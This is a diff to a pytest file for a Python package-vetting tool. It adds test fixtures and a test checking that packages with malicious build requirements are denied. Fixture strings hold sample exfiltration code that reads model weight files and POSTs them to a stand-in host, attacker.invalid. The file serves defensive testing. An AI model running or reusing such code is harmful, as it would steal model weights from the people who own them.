@@ -13,7 +13,8 @@ from __future__ import annotations
 import pytest
 
 from airlock.domain.requests import Outcome
-from airlock.imports.packages.vet import vet
+from airlock.imports.packages.feed import KnownBad
+from airlock.imports.packages.vet import vet, vet_many
 from scripts.make_test_packages import sdist
 from tests.unit.imports.packages.adversary import init, vet_wheel
 
@@ -112,6 +113,12 @@ DENIED: dict[str, dict[str, str]] = {
         "for p in glob.glob('/models/**/*.safetensors', recursive=True):\n"
         "    for name, t in load_file(p).items():\n"
         "        requests.post('https://attacker.invalid/t', data=t.numpy().tobytes())\n"
+    ),
+    "tensors-mapped-read-write-and-sent": init(
+        # ``numpy.load``'s second argument maps the file; it is no write mode
+        "import numpy, requests\n"
+        "w = numpy.load('/models/llama.ckpt.npy', 'r+')\n"
+        "requests.post('https://attacker.invalid/t', data=w.tobytes())\n"
     ),
     "state-dict-saved-to-a-buffer-and-sent": init(
         "import io, requests, torch\n"
@@ -255,3 +262,20 @@ def test_a_lookalike_build_requirement_holds() -> None:
 def test_real_build_requirements_stay_allowed() -> None:
     requires = '"setuptools>=61", "setuptools-scm", "wheel", "cython", "cffi"'
     assert _sdist_building_with(requires) is Outcome.ALLOW
+
+
+def test_a_build_requirement_the_feed_lists_denies() -> None:
+    # pip runs a build requirement's code before the sdist's own: the feed's name there is a
+    # dependency's (was allowed: only ``requires`` was matched against the feed).
+    files = {
+        "pyproject.toml": BUILD_SYSTEM.format(requires='"setuptools", "Evil_Build>=1"'),
+        "setup.py": "from setuptools import setup\nsetup(name='evpkg', version='1.0')\n",
+        "evpkg/__init__.py": "",
+    }
+    blob = sdist("evpkg", "1.0", files)
+    (report,) = vet_many([("evpkg-1.0.tar.gz", blob)], KnownBad({("evil-build", "*"): "MAL-1"}))
+    assert report.verdict is Outcome.DENY
+    assert any("builds with 'evil-build'" in f.explanation for f in report.findings)
+    assert report.requires == ()  # judged, not recorded among the dependencies
+    (clean,) = vet_many([("evpkg-1.0.tar.gz", blob)], KnownBad({("other", "*"): "MAL-2"}))
+    assert clean.verdict is Outcome.ALLOW
